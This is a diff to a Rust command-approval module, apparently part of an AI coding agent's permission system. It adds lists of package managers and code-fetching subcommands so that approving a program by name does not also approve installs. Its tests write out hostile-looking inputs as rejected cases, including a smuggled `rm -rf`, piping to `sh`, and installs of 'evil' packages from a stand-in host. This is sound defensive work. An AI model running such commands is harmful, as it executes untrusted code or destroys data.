@@ -7,7 +7,9 @@
 //! option that executes or deletes (`git -c`, `find -exec`) take arbitrary code in their
 //! arguments: for them, and for compound commands (pipes, chains, redirects,
 //! substitutions) and programs named by a path, only the exact command line is
-//! remembered.
+//! remembered. So it is for a package manager's subcommands that fetch code from outside
+//! the project (`npm install x`, `cargo install x`, `pip install x`): approving
+//! `npm test` does not approve them.
 //!
 //! A program approved by name still runs what the project's own files say: `cargo test`
 //! runs the tests and build scripts, `git commit` runs the repository's hooks. That is
@@ -188,6 +190,72 @@ const FIND_ACTIONS: &[&str] = &[
     "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
 ];
 
+/// Package managers and toolchains whose subcommands in [`FETCHES_CODE`] bring code from
+/// outside the project (and often run it: install scripts, build scripts).
+const PACKAGE_MANAGERS: &[&str] = &[
+    "npm",
+    "yarn",
+    "pnpm",
+    "cargo",
+    "pip",
+    "pip3",
+    "gem",
+    "go",
+    "apt",
+    "apt-get",
+    "dnf",
+    "yum",
+    "apk",
+    "pacman",
+    "zypper",
+    "brew",
+    "composer",
+    "dotnet",
+    "nuget",
+    "conda",
+    "mamba",
+    "micromamba",
+    "rustup",
+    "opam",
+    "cabal",
+    "stack",
+    "mix",
+    "helm",
+    "snap",
+    "flatpak",
+    "port",
+    "vcpkg",
+    "conan",
+];
+
+/// Subcommands that fetch code from outside the project: approving `npm test` must not
+/// approve `npm install some-package`.
+const FETCHES_CODE: &[&str] = &[
+    "install",
+    "i",
+    "add",
+    "ci",
+    "get",
+    "update",
+    "up",
+    "upgrade",
+    "sync",
+    "download",
+    "require",
+    "global",
+    "link",
+    "publish",
+    "login",
+    "adduser",
+    "toolchain",
+    "component",
+    "target",
+    "tap",
+    "source",
+    "remote",
+    "repo",
+];
+
 /// Characters that make a command more than one simple command, or hide its program.
 const OPERATORS: &[&str] = &[";", "&", "|", "<", ">", "`", "$(", "\n", "\r"];
 
@@ -256,7 +324,12 @@ pub fn program_by_name(command: &str) -> Option<&str> {
         }),
         _ => false,
     };
-    (!executes).then_some(program)
+    let fetches = PACKAGE_MANAGERS.contains(&lower.as_str())
+        && args
+            .iter()
+            .find(|arg| !arg.starts_with('-'))
+            .is_some_and(|sub| FETCHES_CODE.contains(sub));
+    (!executes && !fetches).then_some(program)
 }
 
 #[cfg(test)]
@@ -274,6 +347,10 @@ mod tests {
             ("cargo build --release", "cargo"),
             ("find . -name '*.rs'", "find"),
             ("npm test", "npm"),
+            ("npm run build", "npm"),
+            ("cargo run --release", "cargo"),
+            ("pip list", "pip"),
+            ("go vet ./...", "go"),
             ("rg -n TODO", "rg"),
             ("c++ -O2 main.cc", "c++"),
         ] {
@@ -327,6 +404,22 @@ mod tests {
             "ls | sh",
             "ls $(rm -rf x)",
             "\"cargo\" test",
+            "npm install evil-pkg",
+            "npm i evil-pkg",
+            "npm --silent install evil-pkg",
+            "yarn add evil-pkg",
+            "pnpm add evil-pkg",
+            "cargo install evil",
+            "cargo add evil",
+            "cargo update",
+            "pip install evil",
+            "pip3 install --user evil",
+            "go install example.com/evil@latest",
+            "go get example.com/evil",
+            "gem install evil",
+            "apt-get install -y evil",
+            "brew install evil",
+            "rustup toolchain install nightly",
         ] {
             assert_eq!(
                 session_rule(command),
